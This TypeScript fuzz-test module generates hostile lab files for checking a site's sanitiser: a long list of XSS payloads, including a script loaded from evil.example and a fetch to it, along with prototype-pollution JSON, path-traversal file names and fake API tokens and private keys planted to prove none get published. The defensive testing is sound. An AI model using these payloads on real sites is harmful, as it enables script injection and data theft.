/**
 * Hostile lab trees for the fuzz campaign (npm run fuzz, and a short seeded run in npm test):
 * notes, write-ups and data files carrying script attempts the way a hurried or hostile
 * contributor would write them, secrets in text, escapes and file names, JSON built to break a
 * parser or a page, and file names built to break routing. Every planted secret is listed, so
 * the campaign can prove none of it survives.
 */
import fc from 'fast-check';

export interface HostileFile {
	path: string;
	text: string;
}

export interface HostileTree {
	files: HostileFile[];
	/** Parts of planted secrets that must not appear in anything the site publishes. */
	secrets: string[];
}

/** Script attempts in markdown and raw HTML; `X` is replaced by a payload. */
export const SCRIPT_ATTEMPTS = [
	'<script>X</script>',
	'<img src=x onerror="X">',
	'<img src="x"onerror=X>',
	'<img/src="x"/onerror=X>',
	'<svg/onload=X>',
	'<svg onload=X>',
	'<svg><animate onbegin=X attributeName=x dur=1s>',
	'<svg><a><animate attributeName="href" values="javascript:X"/><text y="20">click</text></a></svg>',
	'<a href="javascript:X">x</a>',
	'<a href="&#106;avascript:X">x</a>',
	'<a href="java&#9;script:X">x</a>',
	'<a href=" javascript:X">x</a>',
	'[x](javascript:X)',
	'[x](&#106;avascript:X)',
	'[x](java&#9;script:X)',
	'<javascript:X>',
	'[r]: javascript:X\n\n[click][r]',
	'[r]: <javascript:X>\n\n[click][r]',
	'![i](javascript:X)',
	'<iframe src="javascript:X"></iframe>',
	'<iframe srcdoc="<script>X</script>"></iframe>',
	'<object data="javascript:X"></object>',
	'<embed src="javascript:X">',
	'<form action="javascript:X"><button>go</button></form>',
	'<input autofocus onfocus=X>',
	'<details open ontoggle=X><summary>s</summary></details>',
	'<body onload=X>',
	'<base href="javascript:X//">',
	'<meta http-equiv="refresh" content="0;url=javascript:X">',
	'<style>*{background:url("javascript:X")}</style>',
	'<math><mtext><table><mglyph><style><img src=x onerror=X>',
	'<noscript><p title="</noscript><img src=x onerror=X>">',
	'<!--><img src=x onerror=X>-->',
	'<img src=x alt="`" onerror=X title="`">',
	'<img src=x onerror\n=X>',
	'<div\nonmouseover=X>hover</div>',
	'<a\nhref="javascript:X">split</a>',
	'<scr\nipt>X</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<img src=x oNeRrOr=X>',
	'<video><source onerror=X></video>',
	'<audio src=x onerror=X>',
	'<table background="javascript:X"><tr><td>t</td></tr></table>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
	'<x onclick=X>x</x>',
	'</script><svg/onload=X>',
	'<div class="expressive-code"><script>X</script><img src=x onerror=X><script type="module" src="//evil.example/x.js"></script></div>',
	`${'<div>'.repeat(20_000)}<img src=x onerror=X>${'</div>'.repeat(20_000)}`,
];

/** Text that must stay inert inside JSON embedded in a page. */
export const EMBED_BREAKERS = ['</script><svg/onload=alert(1)>', '</SCRIPT><img src=x onerror=alert(1)>', '<!--<script>', '\u2028\u2029', '&lt;/script&gt;', ']]>'];

const PAYLOADS = ['alert(1)', 'alert`1`', 'fetch("//evil.example")', 'top["al"+"ert"](1)'];

const ALPHANUMERIC = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'];
const UPPER_DIGITS = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'];
const LETTERS = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'];
const BASE64 = [...ALPHANUMERIC, '+', '/'];

const chars = (alphabet: string[], length: number) => fc.array(fc.constantFrom(...alphabet), { minLength: length, maxLength: length }).map((list) => list.join(''));

/** A secret: its full text and the part after its public prefix (what must never be published). */
interface Secret {
	text: string;
	core: string;
}

const secretShapes: Array<fc.Arbitrary<Secret>> = [
	chars(ALPHANUMERIC, 36).map((core) => ({ text: `ghp_${core}`, core })),
	chars(ALPHANUMERIC, 82).map((core) => ({ text: `github_pat_${core.slice(0, 22)}_${core.slice(22, 81)}`, core: core.slice(0, 22) })),
	chars(UPPER_DIGITS, 16).map((core) => ({ text: `AKIA${core}`, core })),
	chars(ALPHANUMERIC, 24).map((core) => ({ text: `xoxb-123456789012-1234567890123-${core}`, core })),
	chars(ALPHANUMERIC, 48).map((core) => ({ text: `sk-proj-${core}`, core })),
	chars(ALPHANUMERIC, 93).map((core) => ({ text: `sk-ant-api03-${core}AA`, core })),
	chars(LETTERS, 34).map((core) => ({ text: `hf_${core}`, core })),
	chars(ALPHANUMERIC, 40).map((core) => ({ text: `bhk_${core}`, core })),
	chars(BASE64, 64 * 4).map((core) => ({
		text: `-----BEGIN RSA PRIVATE KEY-----\n${core.match(/.{1,64}/g)!.join('\n')}\n-----END RSA PRIVATE KEY-----`,
		core: core.slice(0, 64),
	})),
	chars(BASE64, 64 * 3).map((core) => ({
		text: `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${core.match(/.{1,64}/g)!.join('\n')}\n-----END PGP PRIVATE KEY BLOCK-----`,
		core: core.slice(0, 64),
	})),
];

/** The same secret as it may be written: plain, or with its separator as an escape. */
const escapedSecret = fc.tuple(fc.oneof(...secretShapes), fc.constantFrom('plain', '&#95;', '&#x5f;', '\\u005f')).map(([secret, escape]) => ({
	core: secret.core,
	text: escape === 'plain' ? secret.text : secret.text.replace('_', escape),
}));

/** Mutations a hostile snippet goes through: case, a line break inside the tag, a container. */
const mutated = (snippet: string) =>
	fc.tuple(fc.constantFrom(...PAYLOADS), fc.nat(), fc.constantFrom('none', 'upper', 'break'), fc.constantFrom('paragraph', 'details', 'table', 'list', 'quote', 'code', 'inline-code')).map(([payload, at, change, container]) => {
		let text = snippet.replaceAll('X', payload);
		if (change === 'upper') text = text.replace(/<([a-z]+)/g, (_, tag: string) => `<${tag.toUpperCase()}`);
		if (change === 'break') {
			const spaces = [...text.matchAll(/ /g)].map((match) => match.index);
			if (spaces.length) {
				const index = spaces[at % spaces.length];
				text = `${text.slice(0, index)}\n${text.slice(index + 1)}`;
			}
		}
		if (container === 'details') return `<details>\n<summary>More</summary>\n\n${text}\n\n</details>`;
		if (container === 'table') return `| a | b |\n|---|---|\n| ${text.replace(/\n/g, ' ')} | x |`;
		if (container === 'list') return `- item\n- ${text.replace(/\n/g, '\n  ')}`;
		if (container === 'quote') return `> ${text.replace(/\n/g, '\n> ')}`;
		if (container === 'code') return `\`\`\`html\n${text}\n\`\`\``;
		if (container === 'inline-code') return `Use \`${text.replace(/\n|`/g, ' ')}\` carefully.`;
		return text;
	});

const hostileSnippet = fc.constantFrom(...SCRIPT_ATTEMPTS).chain(mutated);

/** A note or write-up: a title that may itself be hostile, paragraphs, snippets and secrets. */
const hostileMarkdown = fc
	.tuple(
		fc.constantFrom('MiniMax Q4 run', 'Qwen3.6 FP8 sweep', EMBED_BREAKERS[0], 'Negative: CCL P2P off', '`code` title'),
		fc.array(fc.oneof({ weight: 3, arbitrary: hostileSnippet }, { weight: 1, arbitrary: fc.constantFrom('Output tok/s: 12.5', '| model | tok/s |\n|---|---|\n| q4 | 12 |', '```sh\nllama-bench -m m.gguf\n```', '![photo](photos/rig.jpg)') }), { minLength: 1, maxLength: 6 }),
		fc.array(escapedSecret, { maxLength: 2 }),
		fc.constantFrom('', '---\ntitle: "T"\n---\n', '---\n\n', '\uFEFF', '---\ntitle: [unclosed\n---\n'),
	)
	.map(([title, blocks, secrets, prefix]) => ({
		text: `${prefix}# ${title}\n\n${blocks.join('\n\n')}\n\n${secrets.map((secret) => `export TOKEN=${secret.text}`).join('\n')}\n`,
		secrets: secrets.map((secret) => secret.core),
	}));

/** JSON text built to break parsing or a page: deep nesting, `__proto__`, hostile strings, secrets. */
const hostileJson = fc
	.tuple(
		fc.constantFrom('plain', 'deep', 'proto', 'broken', 'huge-number'),
		fc.integer({ min: 1, max: 3000 }),
		fc.constantFrom(...EMBED_BREAKERS, ...SCRIPT_ATTEMPTS.slice(0, 6)),
		fc.array(escapedSecret, { maxLength: 1 }),
	)
	.map(([shape, depth, hostile, secrets]) => {
		const secretText = secrets.map((secret) => secret.text).join(' ');
		const base = { title: hostile, model: hostile, notes: `token ${secretText}`, hfId: hostile, output_tok_s: 12.5 };
		let text = JSON.stringify(base, null, 2);
		if (shape === 'deep') text = `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;
		if (shape === 'proto') text = `{"__proto__":{"polluted":true},"label":{"__proto__":{"x":1}},"title":${JSON.stringify(hostile)},"notes":${JSON.stringify(secretText)}}`;
		if (shape === 'broken') text = `${text.slice(0, Math.max(1, text.length - 3))}`;
		if (shape === 'huge-number') text = `{"output_tok_s":1e308,"title":${JSON.stringify(hostile)},"notes":${JSON.stringify(secretText)}}`;
		return { text, secrets: secrets.map((secret) => secret.core) };
	});

/** File names built to break routing: separators, encodings, Unicode forms, case twins, tokens. */
const hostileName = fc.oneof(
	fc.constantFrom('run', 'dup', 'DUP', 'Dup', 'caf\u00e9', 'cafe\u0301', 'a\\b', '%2e%2e', '%2E%2E%2Fx', '..x', 'x..', 'a b', 'über', '日本', 'by-track', 'index', '-', '.hidden', 'x%00y', 'CON', 'a#b', 'a?b'),
	escapedSecret.map((secret) => `run-${secret.text.split('\n')[0].replace(/[^A-Za-z0-9_&#;\\-]/g, '')}`),
);

const dated = (name: string, index: number) => `2026-05-${String((index % 28) + 1).padStart(2, '0')}-${name}`;

/** One hostile lab tree of up to `maxFiles` files. */
export function hostileTree(maxFiles = 12): fc.Arbitrary<HostileTree> {
	const file = fc.tuple(fc.constantFrom('note', 'writeup', 'data', 'data-note'), hostileName, fc.constantFrom('.md', '.MD', '.json')).chain(([kind, name, extension]) =>
		(kind === 'data' ? hostileJson : hostileMarkdown).map((content) => ({ kind, name, extension, content })),
	);
	return fc.array(file, { minLength: 1, maxLength: maxFiles }).map((generated) => {
		const files: HostileFile[] = [];
		const secrets: string[] = [];
		generated.forEach(({ kind, name, extension, content }, index) => {
			const path =
				kind === 'note'
					? `notes/${dated(name, index)}${extension === '.json' ? '.md' : extension}`
					: kind === 'writeup'
						? `results/${name}${extension === '.json' ? '.md' : extension}`
						: kind === 'data'
							? `data/${dated(name, index)}.json`
							: `data/${dated(name, index)}.md`;
			files.push({ path, text: content.text });
			secrets.push(...content.secrets);
			if (/ghp_|hf_|bhk_|AKIA|sk-|xox|github_pat_/.test(name)) secrets.push(...[...name.matchAll(/[A-Za-z0-9]{16,}/g)].map((match) => match[0]));
		});
		// Two files may draw the same path; the lab's file system would hold one.
		const unique = [...new Map(files.map((entry) => [entry.path, entry])).values()];
		return { files: unique, secrets: [...new Set(secrets)] };
	});
}
